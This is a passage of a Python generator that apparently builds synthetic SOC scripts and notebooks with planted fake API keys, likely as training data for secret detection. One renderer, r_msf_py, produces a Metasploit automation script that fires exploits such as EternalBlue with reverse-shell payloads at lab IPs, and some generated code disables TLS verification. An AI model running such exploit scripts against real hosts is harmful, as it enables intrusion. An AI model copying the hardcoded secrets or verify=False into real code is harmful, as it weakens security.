      url="https://api.github.com/repos/{corp}/detections/contents/rules", ckey="token"),
    S("aws", "secret_access_key", aws_secret, ["AWS_SECRET_ACCESS_KEY"],
      "bare", ["tf", "env", "aws_ini", "py", "sh", "yaml"], idgen=aws_key_id, idenv="AWS_ACCESS_KEY_ID",
      ckey="aws_secret_access_key"),
    S("google", "safe_browsing_api_key", google_key, ["GSB_API_KEY", "WEBRISK_API_KEY", "GOOGLE_API_KEY"],
      "query", ["py", "sh", "env", "yaml", "json", "ipynb"], qp="key",
      url="https://webrisk.googleapis.com/v1/uris:search?threatTypes=MALWARE&uri={urlq}", ckey="api_key"),
    S("opsgenie", "api_key", lambda r: r.uuid(), ["OPSGENIE_API_KEY", "OPSGENIE_KEY"],
      "header", ["elastalert", "py", "tf", "yaml", "env", "sh"], hdr="Authorization", scheme="GenieKey ",
      url="https://api.opsgenie.com/v2/alerts", method="post", ckey="api_key"),
    S("telegram", "bot_token", telegram_bot, ["TELEGRAM_BOT_TOKEN", "TG_TOKEN"],
      "tg", ["py", "sh", "elastalert", "env", "yaml", "md"], ckey="bot_token"),
    S("cape_sandbox", "api_token", lambda r: r.hex(40), ["CAPE_API_TOKEN", "CAPE_TOKEN"],
      "header", ["py", "sh", "env", "yaml", "ini"], hdr="Authorization", scheme="Token ",
      url="https://cape.{corp}.internal/apiv2/tasks/create/file/", method="post", ckey="token"),
    S("intelx", "api_key", lambda r: r.uuid(), ["INTELX_API_KEY", "INTELX_KEY"],
      "header", ["py", "sh", "env", "yaml", "ini", "ipynb"], hdr="x-key",
      url="https://2.intelx.io/intelligent/search", method="post", ckey="api_key"),
]

GENERIC_NAMES = ["API_KEY", "TOKEN", "AUTH", "KEY", "SECRET", "APIKEY", "AUTH_TOKEN", "ACCESS_TOKEN",
                 "INTEL_KEY", "TI_KEY", "LOOKUP_KEY", "ENRICH_TOKEN", "SVC_TOKEN", "CRED", "LLM_KEY",
                 "FEED_KEY", "X_KEY"]
GENERIC_PW = ["PASSWORD", "PASS", "PW", "ADMIN_PASS", "SVC_PASSWORD", "SECRET"]
GENERIC_HOOK = ["WEBHOOK_URL", "HOOK", "ALERT_URL", "NOTIFY_URL", "CALLBACK_URL"]


# ---------------------------------------------------------------------------
# Surrounding-data helpers (IOCs, hosts, people)
# ---------------------------------------------------------------------------
FAMILIES = ["AgentTesla", "RedLineStealer", "Emotet", "QakBot", "IcedID", "AsyncRAT", "Remcos",
            "LummaStealer", "Formbook", "SmokeLoader", "CobaltStrike", "Sliver", "BumbleBee",
            "DarkGate", "Pikabot", "NjRAT", "Vidar", "SocGholish", "Latrodectus", "StealC"]
TLDS = ["top", "xyz", "ru", "shop", "online", "click", "info", "site", "cc", "biz"]
SYLL = ["kro", "mav", "zel", "tor", "quin", "vex", "lum", "dar", "pho", "sil", "gru", "nex",
        "bal", "cyr", "fen", "oph", "ral", "tek", "vor", "yan"]
ANALYSTS = ["jdoe", "mkowalski", "asingh", "lnguyen", "tmueller", "rgarcia", "kpatel", "ebrown",
            "ssato", "ofernandez", "hcohen", "pdubois"]
USERS = ["svc_soar", "svc_enrich", "soc-automation", "detect-bot", "ir_lead", "threatintel"]


def mal_domain(r, defang=False):
    d = "".join(r.choice(SYLL) for _ in range(r.rint(2, 3))) + str(r.rint(1, 99)) * r.rint(0, 1)
    d = d + "." + r.choice(TLDS)
    return d.replace(".", "[.]") if defang else d


def defang_ip(ip):
    return ip.replace(".", "[.]")


def corp_of(r):
    return r.choice(CORPS)


def today(r):
    return "2024-%02d-%02d" % (r.rint(1, 12), r.rint(1, 28))


def ts(r):
    return "%sT%02d:%02d:%02dZ" % (today(r), r.rint(0, 23), r.rint(0, 59), r.rint(0, 59))


def sha256(r):
    return r.hex(64)


def md5(r):
    return r.hex(32)


def sha1(r):
    return r.hex(40)


def ssdeep(r):
    bs = r.choice([768, 1536, 3072, 6144, 12288, 24576, 49152, 98304])
    a = r.s(B64, r.rint(40, 64))
    b = r.s(B64, r.rint(20, 40))
    return "%d:%s:%s" % (bs, a, b)


def tlsh(r):
    return "T1" + r.HEX(70)


def ja4(r):
    return "%s%s%s%02d%02d%s_%s_%s" % (r.choice(["t", "q"]), r.choice(["12", "13"]), r.choice(["d", "i"]),
                                    r.rint(5, 20), r.rint(5, 20), r.choice(["h2", "h1", "00"]), r.hex(12), r.hex(12))


def jarm(r):
    return r.choice(["07d14d16d21d21d", "2ad2ad0002ad2ad", "29d29d00029d29d", "3fd3fd0003fd3fd"]) + r.hex(47)


def cve(r):
    return "CVE-%d-%d" % (r.rint(2017, 2024), r.rint(1000, 52000))


def mitre(r):
    return r.choice(["T1059.001", "T1566.001", "T1204.002", "T1055", "T1003.001", "T1547.001",
                     "T1071.001", "T1105", "T1218.011", "T1027", "T1569.002", "T1021.002"])


# ---------------------------------------------------------------------------
# Value representation used by renderers: literal / env reference / raw text
# ---------------------------------------------------------------------------
class Val:
    def __init__(self, kind, text, style=0):
        self.kind = kind      # 'lit' | 'env' | 'raw'
        self.text = text
        self.style = style    # random int choosing among equivalent syntaxes


def _yaml_safe(s):
    return bool(s) and s[0].isalpha() and all(c.isalnum() or c in "-_./" for c in s) and \
        s.lower() not in ("yes", "no", "true", "false", "on", "off", "null")


def quote(lang, s, style=0):
    if lang in ("py", "ipynb"):
        return ('"%s"' if style % 2 == 0 else "'%s'") % s
    if lang == "ps1":
        return ("'%s'" if style % 2 == 0 else '"%s"') % s
    if lang in ("sh", "md_sh"):
        if style % 3 == 0 and all(c.isalnum() or c in "-_./:" for c in s) and s:
            return s
        return ('"%s"' if style % 3 != 2 else "'%s'") % s
    if lang in ("yaml", "compose", "ansible", "gha", "k8s", "soar_yaml", "elastalert"):
        if style % 2 == 0 and _yaml_safe(s):
            return s
        return ('"%s"' if style % 4 != 3 else "'%s'") % s
    if lang in ("json", "soar_json", "toml", "tf", "hocon", "logstash"):
        return '"%s"' % s
    if lang == "php":
        return "'%s'" % s
    if lang == "docker":
        return s if style % 2 == 0 and all(c.isalnum() or c in "-_./:" for c in s) else '"%s"' % s
    return s  # ini, env, conf, xml, csv, md, rc


def env_ref(lang, name, style=0):
    low = name.lower()
    if lang in ("py", "ipynb"):
        return ['os.environ["%s"]' % name, 'os.getenv("%s")' % name,
                'os.environ.get("%s", "")' % name][style % 3]
    if lang == "ps1":
        return "$env:%s" % name
    if lang in ("sh", "md_sh"):
        return ['"${%s}"' % name, '"$%s"' % name, '"${%s:?%s is not set}"' % (name, name)][style % 3]
    if lang == "compose":
        return ['"${%s}"' % name, "${%s:?err}" % name, "${%s}" % name][style % 3]
    if lang == "ansible":
        return ['"{{ vault_%s }}"' % low, "\"{{ lookup('env', '%s') }}\"" % name,
                '"{{ %s_%s }}"' % (low, "vaulted")][style % 3]
    if lang == "gha":
        return "${{ secrets.%s }}" % name
    if lang in ("yaml", "elastalert", "toml"):
        return '"${%s}"' % name
    if lang == "soar_yaml":
        return ['"{{ secrets.%s }}"' % low, '"$secret:%s"' % low][style % 2]
    if lang == "soar_json":
        return ['"<<CREDENTIAL.%s>>"' % low, '"{{ .CREDENTIAL.%s }}"' % low][style % 2]
    if lang == "json":
        return '"${%s}"' % name
    if lang == "tf":
        return ["var.%s" % low, "data.aws_ssm_parameter.%s.value" % low,
                "data.vault_generic_secret.soc.data[\"%s\"]" % low][style % 3]
    if lang == "docker":
        return "${%s}" % name
    if lang == "hocon":
        return "${?%s}" % name
    if lang == "logstash":
        return '"${%s}"' % name
    if lang == "php":
        return "getenv('%s')" % name
    return None  # no env syntax (ini, env, conf, xml, csv, md)


class C:
    """Rendering context shared by positives and negatives."""

    def __init__(self, r, sp, val, generic, secret=None):
        self.r = r
        self.sp = sp
        self.v = val
        self.generic = generic
        self.secret = secret
        self.corp = corp_of(r)
        self.envname = r.choice(sp["env"])
        if generic:
            pool = GENERIC_HOOK if sp["role"] == "url" else (
                GENERIC_PW if sp["role"] == "password" or "password" in sp["kind"] else GENERIC_NAMES)
            self.name = r.choice(pool)
        else:
            self.name = self.envname
        self.idval = sp["idgen"](r) if sp.get("idgen") else None
        self.user = (sp.get("user") or r.choice(USERS)).format(
            corp=self.corp, corpshort=self.corp[:4].replace("-", ""), n=r.rint(2, 9))
        self.url = (sp.get("url") or "").format(
            corp=self.corp, sha256="{sha256}", ip="{ip}", domain="{domain}", email="{email}",
            tenant=r.uuid(), uuid=r.uuid(), key="{key}", urlq="{urlq}")

    def E(self, lang):
        v = self.v
        if v.kind == "lit":
            return quote(lang, v.text, v.style)
        if v.kind == "env":
            e = env_ref(lang, v.text, v.style)
            if e is None:
                return quote(lang, "<%s>" % v.text, v.style)
            return e
        return v.text  # raw, already in target syntax

    def bare(self, lang="ini"):
        """Value for unquoted contexts (ini/conf/xml/md): literal text or placeholder."""
        v = self.v
        if v.kind == "lit":
            return v.text
        if v.kind == "env":
            return "<%s>" % v.text
        return v.text

    def n(self, style):
        b = self.name
        if style == "UP":
            return b
        if style == "low":
            return b.lower()
        if style == "camel":
            p = b.lower().split("_")
            return p[0] + "".join(x.capitalize() for x in p[1:])
        if style == "pascal":
            return "".join(x.capitalize() for x in b.lower().split("_"))
        if style == "kebab":
            return b.lower().replace("_", "-")
        return b

    @property
    def prov(self):
        return self.sp["prov"]

    @property
    def ckey(self):
        return self.sp.get("ckey", "api_key")


# ---------------------------------------------------------------------------
# Renderers.  Each takes a C and returns (relative_path, filetype, lines).
# ---------------------------------------------------------------------------
def _ioc_kind(url):
    for k in ("sha256", "ip", "domain", "email", "urlq"):
        if "{%s}" % k in url:
            return k
    return None


def _sample_iocs(r, kind, n=None):
    n = n or r.rint(2, 4)
    if kind == "sha256":
        return [sha256(r) for _ in range(n)]
    if kind == "ip":
        return [r.ip() for _ in range(n)]
    if kind == "domain":
        return [mal_domain(r) for _ in range(n)]
    if kind == "email":
        return ["%s@%s.com" % (r.choice(ANALYSTS), corp_of(r)) for _ in range(n)]
    return ["http://%s/%s" % (mal_domain(r), r.choice(["gate.php", "invoice.zip", "login/", "dl/a.hta"]))
            for _ in range(n)]


def _py_fmt_url(url, keyvar=None):
    u = url.replace("{sha256}", "{ioc}").replace("{ip}", "{ioc}").replace("{domain}", "{ioc}")
    u = u.replace("{email}", "{ioc}").replace("{urlq}", "{ioc}")
    if keyvar:
        u = u.replace("{key}", "{%s}" % keyvar)
    return ('f"%s"' % u) if "{" in u else ('"%s"' % u)


def _py_prefixed(prefix, var, is_name, lit_text=None):
    """Expression for prefix + secret in Python."""
    if lit_text is not None:
        return '"%s%s"' % (prefix, lit_text)
    if is_name:
        return 'f"%s{%s}"' % (prefix, var)
    return '"%s" + %s' % (prefix, var)


def py_use(c, var, is_name=True):
    """Lines (4-space indented, inside a function taking `ioc`) using the credential."""
    sp, r = c.sp, c.r
    role = sp["role"]
    lit = c.v.text if (not is_name and c.v.kind == "lit") else None
    url = _py_fmt_url(c.url)
    meth = sp.get("method", "get")
    L = []
    if role == "header":
        hv = _py_prefixed(sp.get("scheme", ""), var, is_name, lit) if sp.get("scheme") else (
            var if is_name or lit is None else quote("py", lit))
        L.append('    headers = {"%s": %s, "Accept": "application/json"}' % (sp["hdr"], hv))
        if meth == "post":
            body = {"abuse_ch": '{"query": "get_info", "hash": ioc}',
                    "urlscan": '{"url": ioc, "visibility": "unlisted"}',
                    "hybrid_analysis": '{"hash": ioc}'}.get(sp["prov"], '{"query": ioc}')
            kw = "data" if sp["prov"] in ("abuse_ch", "hybrid_analysis") else "json"
            L.append("    resp = requests.post(%s, headers=headers, %s=%s, timeout=30)" % (url, kw, body))
        else:
            L.append("    resp = requests.get(%s, headers=headers, timeout=30)" % url)
    elif role == "query":
        L.append('    params = {"%s": %s}' % (sp["qp"], var if is_name or lit is None else quote("py", lit)))
        L.append("    resp = requests.get(%s, params=params, timeout=30)" % url)
    elif role == "basic":
        v2 = var if is_name or lit is None else quote("py", lit)
        if sp["prov"] in ("crowdstrike", "microsoft_entra"):
            L.append('    data = {"client_id": CLIENT_ID, "client_secret": %s,' % v2)
            if sp["prov"] == "microsoft_entra":
                L.append('            "scope": "https://api.securitycenter.microsoft.com/.default",')
                L.append('            "grant_type": "client_credentials"}')
            else:
                L.append('            }')
            L.append("    tok = requests.post(%s, data=data, timeout=30).json()[\"access_token\"]" % url)
            L.append('    resp = requests.get(API_BASE + "/devices/queries/devices/v1",')
            L.append('                        headers={"Authorization": f"Bearer {tok}"},')
            L.append('                        params={"filter": f"local_ip:\'{ioc}\'"}, timeout=30)')
        elif sp["prov"] == "atlassian":
            L.append('    fields = {"project": {"key": "SOC"}, "summary": f"[auto] {ioc}",')
            L.append('              "issuetype": {"name": "Incident"}}')
            L.append("    resp = requests.post(%s, json={\"fields\": fields}," % url)
            L.append("                         auth=(JIRA_USER, %s), timeout=30)" % v2)
        else:
            L.append("    resp = requests.get(%s, auth=(API_ID, %s), timeout=30)" % (url, v2))
    elif role == "password":
        v2 = var if is_name or lit is None else quote("py", lit)
        L.append("    resp = requests.get(%s, auth=(USERNAME, %s)," % (url, v2))
        L.append("                        verify=False, timeout=30)")
    elif role == "url":
        v2 = var if is_name or lit is None else quote("py", lit)
        if sp["prov"] == "microsoft_teams":
            L.append('    card = {"@type": "MessageCard", "summary": "SOC alert",')
            L.append('            "text": f"New IOC hit: `{ioc}`"}')
            L.append("    resp = requests.post(%s, json=card, timeout=10)" % v2)
        elif sp["prov"] == "discord":
            L.append('    resp = requests.post(%s, json={"content": f"IOC hit: {ioc}"}, timeout=10)' % v2)
        else:
            L.append('    msg = {"text": f":rotating_light: IOC match `{ioc}`"}')
            L.append("    resp = requests.post(%s, json=msg, timeout=10)" % v2)
    elif role == "xapikeys":
        hv = ('f"accessKey={ACCESS_KEY};secretKey={%s}"' % var) if is_name else (
            '"accessKey=" + ACCESS_KEY + ";secretKey=%s"' % lit if lit is not None else
            '"accessKey=" + ACCESS_KEY + ";secretKey=" + %s' % var)
        L.append('    headers = {"X-ApiKeys": %s}' % hv)
        L.append("    resp = requests.get(%s, headers=headers, verify=False, timeout=30)" % url)
    elif role == "path":
        u = ('f"http://127.0.0.1:1337/{%s}/v0.1/scan"' % var) if is_name else (
            '"http://127.0.0.1:1337/%s/v0.1/scan"' % lit if lit is not None else
            '"http://127.0.0.1:1337/" + %s + "/v0.1/scan"' % var)
        L.append('    resp = requests.post(%s, json={"urls": [ioc]}, timeout=30)' % u)
    elif role == "tg":
        u = ('f"https://api.telegram.org/bot{%s}/sendMessage"' % var) if is_name else (
            '"https://api.telegram.org/bot%s/sendMessage"' % lit if lit is not None else
            '"https://api.telegram.org/bot" + %s + "/sendMessage"' % var)
        L.append('    resp = requests.post(%s,' % u)
        L.append('                         data={"chat_id": CHAT_ID, "text": f"IOC hit {ioc}"}, timeout=10)')
    else:  # bare
        v2 = var if is_name or lit is None else quote("py", lit)
        if sp["prov"] == "pagerduty":
            L.append('    event = {"routing_key": %s, "event_action": "trigger",' % v2)
            L.append('             "payload": {"summary": f"IOC hit {ioc}", "source": "soc-enricher",')
            L.append('                         "severity": "error"}}')
            L.append('    resp = requests.post("https://events.pagerduty.com/v2/enqueue", json=event, timeout=10)')
        elif sp["prov"] == "microsoft_sentinel":
            L.append("    body = json.dumps([{\"indicator\": ioc, \"source\": \"enricher\"}])")
            L.append("    date = email.utils.formatdate(usegmt=True)")
            L.append('    to_sign = f"POST\\n{len(body)}\\napplication/json\\nx-ms-date:{date}\\n/api/logs"')
            L.append("    sig = base64.b64encode(hmac.new(base64.b64decode(%s), to_sign.encode()," % v2)
            L.append("                                    hashlib.sha256).digest()).decode()")
            L.append('    headers = {"Authorization": f"SharedKey {WORKSPACE_ID}:{sig}", "Log-Type": "SocEnrich",')
            L.append('               "x-ms-date": date, "Content-Type": "application/json"}')
            L.append('    resp = requests.post(f"https://{WORKSPACE_ID}.ods.opinsights.azure.com/api/logs?api-version=2016-04-01",')
            L.append("                         data=body, headers=headers, timeout=30)")
        elif sp["prov"] == "smtp":
            L.append('    msg = EmailMessage()')
            L.append('    msg["Subject"], msg["From"], msg["To"] = f"IOC hit {ioc}", SMTP_USER, "soc@%s.com"' % c.corp)
            L.append('    with smtplib.SMTP("smtp.%s.com", 587) as s:' % c.corp)
            L.append("        s.starttls()")
            L.append("        s.login(SMTP_USER, %s)" % v2)
            L.append("        s.send_message(msg)")
            L.append("    return None")
        elif sp["prov"] == "aws":
            L.append('    s3 = boto3.client("s3", aws_access_key_id=ACCESS_KEY_ID,')
            L.append("                      aws_secret_access_key=%s, region_name=\"eu-west-1\")" % v2)
            L.append('    s3.upload_file(ioc, "%s-ir-evidence", f"triage/{os.path.basename(ioc)}")' % c.corp)
            L.append("    return None")
        else:
            L.append('    resp = requests.get(%s, headers={"X-Key": %s}, timeout=30)' % (url, v2))
    if L and not L[-1].strip().startswith("return"):
        L.append("    resp.raise_for_status()")
        L.append("    return resp.json() if resp.content else None")
    return L


def _py_imports(c, extra=()):
    imps = ["import json", "import os", "import sys"]
    sp = c.sp
    if sp["prov"] == "microsoft_sentinel":
        imps += ["import base64", "import email.utils", "import hashlib", "import hmac"]
    if sp["prov"] == "smtp":
        imps += ["import smtplib", "from email.message import EmailMessage"]
    imps = sorted(set(imps + list(extra)))
    third = ["import boto3"] if sp["prov"] == "aws" else ["import requests"]
    return imps + [""] + third


def _py_companions(c):
    L = []
    sp = c.sp
    if sp.get("idgen") and sp["role"] in ("basic", "xapikeys", "bare"):
        nm = {"basic": "API_ID", "xapikeys": "ACCESS_KEY"}.get(sp["role"], "ACCESS_KEY_ID")
        if sp["prov"] in ("crowdstrike", "microsoft_entra"):
            nm = "CLIENT_ID"
        if sp["prov"] == "microsoft_sentinel":
            nm = "WORKSPACE_ID"
        L.append('%s = "%s"' % (nm, c.idval))
    if sp["prov"] == "crowdstrike":
        L.append('API_BASE = "https://api.crowdstrike.com"')
    if sp["prov"] == "microsoft_entra":
        L.append('API_BASE = "https://api.securitycenter.microsoft.com/api"')
    if sp["role"] == "password":
        L.append('USERNAME = "%s"' % c.user)
    if sp["prov"] == "atlassian":
        L.append('JIRA_USER = "%s"' % c.user)
    if sp["prov"] == "smtp":
        L.append('SMTP_USER = "soc-alerts@%s.com"' % c.corp)
    if sp["role"] == "tg":
        L.append("CHAT_ID = -100%s" % c.r.digits(10))
    return L


def r_py(c):
    r, sp = c.r, c.sp
    inline = c.generic and r.chance(0.4)
    var = c.n("UP")
    kind = _ioc_kind(c.url) or ("path" if sp["prov"] == "aws" else "sha256")
    iocs = _sample_iocs(r, kind) if kind != "path" else ["/cases/%s/%s" % (r.rint(1000, 9999), x) for x in
                                                          ("memdump.raw", "triage.zip", "evtx.tar.gz")]
    desc = r.choice(["Bulk-enrich indicators from the daily hunt list.",
                     "Quick lookup helper used by the on-call analyst.",
                     "Push IOC hits from the hunting pipeline.",
                     "Enrichment step for the phishing triage playbook.",
                     "Sweep the overnight alert queue and enrich each observable."])
    L = ["#!/usr/bin/env python3", '"""%s' % desc, "", "Owner: %s (SOC tooling)" % r.choice(ANALYSTS), '"""']
    L += _py_imports(c)
    L.append("")
    if not inline:
        L.append("%s = %s" % (var, c.E("py")))
    L += _py_companions(c)
    L.append("")
    L.append("IOCS = [")
    for i in iocs:
        L.append('    "%s",' % i)
    L.append("]")
    L.append("")
    L.append("")
    L.append("def lookup(ioc):")
    if inline:
        L += py_use(c, c.E("py"), is_name=False)
    else:
        L += py_use(c, var, is_name=True)
    L += ["", "", "def main():",
          "    targets = sys.argv[1:] or IOCS",
          "    for ioc in targets:",
          "        try:",
          "            result = lookup(ioc)",
          "        except Exception as exc:  # keep going on rate limits",
          '            print(f"[!] {ioc}: {exc}", file=sys.stderr)',
          "            continue",
          "        print(json.dumps({\"ioc\": ioc, \"result\": result})[:%d])" % r.choice([300, 500, 1000]),
          "", "", 'if __name__ == "__main__":', "    main()"]
    name = r.choice(["enrich_%s.py" % sp["prov"].split("_")[0], "lookup.py", "triage_%s.py" % sp["prov"],
                     "hunt_enrich.py", "notify.py" if sp["role"] in ("url", "tg") else "ti_lookup.py"])
    d = r.choice(["scripts", "tools", "enrichment", "hunting/scripts", "soc-tools", "ir/bin"])
    return "%s/%s" % (d, name), "python", L


SDK = {
    "vt": (["import vt"], ["client = vt.Client({K})"],
           ['    obj = client.get_object(f"/files/{ioc}")', '    return obj.last_analysis_stats'],
           "sha256", ["client.close()"]),
    "shodan": (["import shodan"], ["api = shodan.Shodan({K})"],
               ["    host = api.host(ioc)", '    return {"ports": host.get("ports"), "org": host.get("org")}'],
               "ip", []),
    "censys": (["from censys.search import CensysHosts"], ['h = CensysHosts(api_id="{ID}", api_secret={K})'],
               ["    return h.view(ioc)"], "ip", []),
    "greynoise": (["from greynoise import GreyNoise"],
                  ['session = GreyNoise(api_key={K}, integration_name="soc-enrich")'],
                  ["    return session.ip(ioc)"], "ip", []),
    "otx": (["from OTXv2 import OTXv2, IndicatorTypes"], ["otx = OTXv2({K})"],
            ["    return otx.get_indicator_details_full(IndicatorTypes.IPv4, ioc)"], "ip", []),
    "ipinfo": (["import ipinfo"], ["handler = ipinfo.getHandler({K})"],
               ["    return handler.getDetails(ioc).all"], "ip", []),
    "thehive": (["from thehive4py.api import TheHiveApi", "from thehive4py.models import Alert"],
                ['api = TheHiveApi("https://thehive.{CORP}.internal:9000", {K})'],
                ['    alert = Alert(title=f"IOC hit {ioc}", tlp=2, source="hunt", sourceRef=ioc[:12],',
                 '                  type="external")', "    return api.create_alert(alert).json()"], "sha256", []),
    "cortex": (["from cortex4py.api import Api"], ['api = Api("https://cortex.{CORP}.internal:9001", {K})'],
               ['    return api.analyzers.run_by_name("VirusTotal_GetReport_3_1",',
                '                                    {"data": ioc, "dataType": "hash", "tlp": 2})'], "sha256", []),
    "pymisp": (["from pymisp import PyMISP"], ['misp = PyMISP("https://misp.{CORP}.internal", {K}, ssl=False)'],
               ['    return misp.search(controller="attributes", value=ioc, pythonify=True)'], "sha256", []),
    "pycti": (["from pycti import OpenCTIApiClient"], ['client = OpenCTIApiClient("https://opencti.{CORP}.internal", {K})'],
              ['    return client.indicator.list(filters={"mode": "and", "filters": [',
               '        {"key": "pattern", "values": [ioc]}], "filterGroups": []})'], "sha256", []),
    "falconpy": (["from falconpy import Hosts"], ['falcon = Hosts(client_id="{ID}", client_secret={K})'],
                 ['    return falcon.query_devices_by_filter(filter=f"local_ip:\'{ioc}\'")'], "ip", []),
    "tenable": (["from tenable.io import TenableIO"], ['tio = TenableIO("{ID}", {K})'],
                ["    return [v for v in tio.exports.vulns(plugin_id=[ioc])]"], "plugin", []),
}


def r_sdk(c):
    r, sp = c.r, c.sp
    imps, init, body, kind, tail = SDK[sp["sdkf"]]
    inline = c.generic and r.chance(0.6)
    var = c.n("UP")
    K = c.E("py") if inline else var
    L = ["#!/usr/bin/env python3", "# %s" % r.choice(["hunting helper - run from the jump host",
                                                      "enrich IOCs pulled from the case",
                                                      "ad-hoc triage, see wiki/SOC/Enrichment"])]
    L += ["import os", "import sys", ""] + imps + [""]
    if not inline:
        L.append("%s = %s" % (var, c.E("py")))
    for ln in init:
        L.append(ln.replace("{K}", K).replace("{ID}", str(c.idval)).replace("{CORP}", c.corp))
    L.append("")
    if kind == "plugin":
        samples = [str(r.rint(10000, 190000)) for _ in range(3)]
    else:
        samples = _sample_iocs(r, kind)
    L.append("SAMPLES = %s" % json.dumps(samples))
    L += ["", "", "def enrich(ioc):"] + body
    L += ["", "", 'if __name__ == "__main__":', "    for item in sys.argv[1:] or SAMPLES:",
          "        print(item, enrich(item))"]
    L += ["    " + t for t in tail]
    name = r.choice(["%s_lookup.py" % sp["sdkf"], "enrich.py", "check_%s.py" % kind, "triage.py"])
    return "%s/%s" % (r.choice(["scripts", "hunting", "tools/enrich", "notebooks/helpers"]), name), "python", L


def r_ipynb(c):
    r, sp = c.r, c.sp
    var = c.n("UP") if not c.generic else r.choice(["api_key", "KEY", "token"])
    kind = _ioc_kind(c.url) or "sha256"
    iocs = _sample_iocs(r, kind, 3)
    cells = []
    cells.append(("markdown", ["# HUNT-%03d: %s (%s)" % (r.rint(1, 200), r.choice(FAMILIES), today(r)[:7]),
                               "", "Hypothesis: %s activity via %s." % (r.choice(FAMILIES), mitre(r)),
                               "Data: EDR process events + proxy logs, last 14 days."]))
    src = ["import os", "import pandas as pd", "import requests", ""]
    src.append("%s = %s" % (var, c.E("py")))
    src += _py_companions(c)
    cells.append(("code", src))
    use = ["iocs = %s" % json.dumps(iocs), "", "def lookup(ioc):"] + py_use(c, var, True)
    cells.append(("code", use + ["", "df = pd.DataFrame({'ioc': iocs})", "df['enrich'] = df['ioc'].apply(lookup)"]))
    nb = {"cells": [], "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python",
                                                   "name": "python3"}},
          "nbformat": 4, "nbformat_minor": 5}
    for i, (t, lines) in enumerate(cells):
        lines = [x for x in lines if x is not None]
        cell = {"cell_type": t, "id": r.hex(8), "metadata": {},
                "source": [x + "\n" for x in lines[:-1]] + [lines[-1]]}
        if t == "code":
            cell["execution_count"] = i
            cell["outputs"] = []
        nb["cells"].append(cell)
    text = json.dumps(nb, indent=1)
    return "notebooks/%s.ipynb" % r.choice(["hunt_%s" % sp["prov"], "triage", "ioc_enrichment", "threat_hunt_q%d" % r.rint(1, 4)]), \
        "jupyter", text.split("\n")


def r_keys_py(c):
    r = c.r
    var = "misp_key"
    L = ["#!/usr/bin/env python", "# -*- coding: utf-8 -*-", "import os" if c.v.kind == "env" else "",
         "# PyMISP examples config - copy from keys.py.sample",
         "misp_url = 'https://misp.%s.internal/'" % c.corp,
         "%s = %s" % (var, c.E("py") if c.v.kind != "lit" else "'%s'" % c.v.text),
         "misp_verifycert = %s" % r.choice(["False", "True"]),
         "misp_client_cert = ''", "",
         "# %s" % r.choice(["sync user for the TI team", "used by feeds/pull_osint.py", "org: %s-CERT" % c.corp.upper()])]
    return "%s/keys.py" % r.choice(["misp/examples", "tools/pymisp", "ti/misp"]), "python", L


def r_msf_py(c):
    r = c.r
    var = c.n("UP") if not c.generic else "PASSWORD"
    L = ["#!/usr/bin/env python3", '"""Drive msfrpcd from the lab automation host."""',
         "from pymetasploit3.msfrpc import MsfRpcClient", "",
         "%s = %s" % (var, c.E("py")), 'RHOSTS = "%s"' % r.lab_ip(), "",
         "client = MsfRpcClient(%s, server=\"127.0.0.1\", port=55553, ssl=True)" % var,
         "exploit = client.modules.use(\"exploit\", \"%s\")" % r.choice(
             ["windows/smb/ms17_010_eternalblue", "multi/http/struts2_content_type_ognl",
              "unix/ftp/vsftpd_234_backdoor", "windows/http/exchange_proxyshell_rce"]),
         'exploit["RHOSTS"] = RHOSTS',
         "payload = client.modules.use(\"payload\", \"%s\")" % r.choice(
             ["windows/x64/meterpreter/reverse_https", "cmd/unix/interact", "linux/x64/shell_reverse_tcp"]),
         'payload["LHOST"] = "%s"' % r.lab_ip(),
         "print(exploit.execute(payload=payload))",
         "print(client.sessions.list)"]
    return "lab/%s" % r.choice(["msf_auto.py", "rpc_runner.py", "autopwn_lab.py"]), "python", L


def _ps_url(url):
    u = url
    for k in ("sha256", "ip", "domain", "email", "urlq"):
        u = u.replace("{%s}" % k, "$ioc")
    return u


def r_ps1(c):
    r, sp = c.r, c.sp
    var = "$" + c.n("pascal")
    role = sp["role"]
    kind = _ioc_kind(c.url) or "sha256"
    iocs = _sample_iocs(r, kind, r.rint(2, 3))
    L = ["<#", ".SYNOPSIS", "    %s" % r.choice(["Enrich indicators from the weekly hunt.",
                                               "Send detections to the alert channel.",
                                               "Pull context for IOCs raised by Defender.",
                                               "SOC helper - run from the analyst VM."]),
         ".NOTES", "    Maintainer: %s" % r.choice(ANALYSTS), "#>",
         "param(", "    [string[]]$Indicators = @(%s)" % ", ".join("'%s'" % i for i in iocs), ")", "",
         "$ErrorActionPreference = 'Stop'"]
    L.append("%s = %s" % (var, c.E("ps1")))
    if c.idval:
        L.append("$ClientId = '%s'" % c.idval)
    if role == "password":
        L.append("$User = '%s'" % c.user)
    L.append("")
    body = []
    if role == "header":
        hv = ('"%s%s"' % (sp["scheme"], var)) if sp.get("scheme") else var
        L.append("$Headers = @{ '%s' = %s; 'Accept' = 'application/json' }" % (sp["hdr"], hv))
        body.append('    $r = Invoke-RestMethod -Uri "%s" -Headers $Headers -Method %s' %
                    (_ps_url(c.url), "Post" if sp.get("method") == "post" else "Get"))
    elif role == "query":
        body.append('    $r = Invoke-RestMethod -Uri "%s" -Body @{ %s = %s }' % (_ps_url(c.url), sp["qp"], var))
    elif role == "basic":
        if sp["prov"] == "crowdstrike":
            L.append("Import-Module PSFalcon")
            L.append("Request-FalconToken -ClientId $ClientId -ClientSecret %s -Cloud 'us-1'" % var)
            body.append("    $r = Get-FalconHost -Filter \"local_ip:'$ioc'\" -Detailed")
        elif sp["prov"] == "microsoft_entra":
            L.append("$TenantId = '%s'" % r.uuid())
            L.append("$Body = @{ client_id = $ClientId; client_secret = %s; grant_type = 'client_credentials';" % var)
            L.append("          scope = 'https://api.securitycenter.microsoft.com/.default' }")
            L.append('$Token = (Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/$TenantId/oauth2/v2.0/token" -Body $Body).access_token')
            body.append('    $r = Invoke-RestMethod -Uri "https://api.securitycenter.microsoft.com/api/ips/$ioc/stats" -Headers @{ Authorization = "Bearer $Token" }')
        else:
            L.append("$Pair = '%s:' + %s" % (c.user, var))
            L.append("$B64 = [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes($Pair))")
            body.append('    $r = Invoke-RestMethod -Uri "%s" -Headers @{ Authorization = "Basic $B64" }' % _ps_url(c.url))
    elif role == "password":
        L.append("$Cred = New-Object PSCredential($User, (ConvertTo-SecureString %s -AsPlainText -Force))" % var)
